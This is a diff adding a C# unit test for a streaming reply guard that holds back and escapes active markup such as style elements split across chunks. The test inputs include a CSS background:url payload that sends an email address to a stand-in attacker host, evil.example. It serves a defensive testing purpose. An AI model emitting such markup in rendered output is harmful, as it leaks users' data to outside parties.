@@ -133,6 +133,29 @@ public sealed class ReplyActiveMarkupTests
         shown[2].Should().BeEmpty("from a style element on, the rest is held");
     }
 
+    /// <summary>
+    /// A '&lt;' held at a line's end (the next character decides whether it opens a tag), then a piece that ends that
+    /// line and opens a style element: the line is passed on before the style element, and the style element is still
+    /// held to the end and decided with its CSS (it was passed on as a bare tag, its CSS later as text).
+    /// </summary>
+    [Theory]
+    [InlineData("x <", "\n<sty", "le>", "\n*{ba", "ckground:url(https://evil.example/p?d=alice.w@corp.example)}")]
+    [InlineData("x <", "\n<style>\n*{background:url(https://evil.example/p?d=alice.w@corp.example)}")]
+    public async Task StreamedStyleElement_AfterALineCut_IsStillHeldToTheEnd(params string[] pieces)
+    {
+        var (guard, session, _) = await AfterProfileAndPage();
+        var stream = guard.Stream(session);
+        var shown = new List<string>();
+        foreach (var piece in pieces)
+        {
+            shown.Add(await stream.PushAsync(piece));
+        }
+
+        shown.Add(await stream.CompleteAsync());
+
+        string.Concat(shown).Should().Be("x <\n&lt;style>\n*{background:url(https://evil.example/p?d=alice.w@corp.example)}");
+    }
+
     [Theory]
     [InlineData("<meta name=\"viewport\" content=\"width=device-width\"> <div style=\"color: red; font-family: 'Segoe UI'\">x</div>")]
     [InlineData("See <a href=\"https://docs.example/x\" title=\"on hover\">this</a> and <img src=\"charts/q3.png\" alt=\"chart\">.")]
